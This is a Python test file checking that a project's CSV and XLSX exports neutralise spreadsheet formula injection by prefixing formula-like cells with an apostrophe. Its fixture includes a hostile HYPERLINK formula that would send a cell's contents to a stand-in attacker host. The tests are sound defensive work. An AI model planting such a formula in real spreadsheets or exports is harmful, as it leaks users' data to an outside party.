"""Every CSV and XLSX meute writes opens with its cells as text, never as formulas."""

import csv
import io

import pytest
from openpyxl import load_workbook

from meute.web.exports import render_export, safe_cell

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


def _rows():
    return [{"nom": HOSTILE, "tel": "+33 6 12 34 56 78", "note": "@SUM(A1)", "ok": "Dupont"}]


@pytest.mark.nodb
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_prefixes_every_formula_start(start):
    """A cell that starts like a formula is prefixed with an apostrophe."""
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.nodb
def test_safe_cell_keeps_plain_text():
    """Ordinary text is written as it is."""
    assert safe_cell("Société Dupont = qualité") == "Société Dupont = qualité"


@pytest.mark.nodb
def test_csv_export_neutralises_formulas():
    """A =HYPERLINK(...) cell in the CSV starts with an apostrophe, so it opens as text."""
    response = render_export(_rows(), "csv", "t")
    text = response.content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row[:3] == ["'" + HOSTILE, "'+33 6 12 34 56 78", "'@SUM(A1)"]


@pytest.mark.nodb
def test_xlsx_export_writes_text_cells_not_formulas():
    """Every XLSX cell is a string cell holding the exact text, never a formula."""
    response = render_export(_rows(), "xlsx", "t")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = next(iter(sheet.iter_rows(min_row=2, max_row=2)))
    assert [c.data_type for c in cells] == ["s", "s", "s", "s"]
    assert cells[0].value == HOSTILE
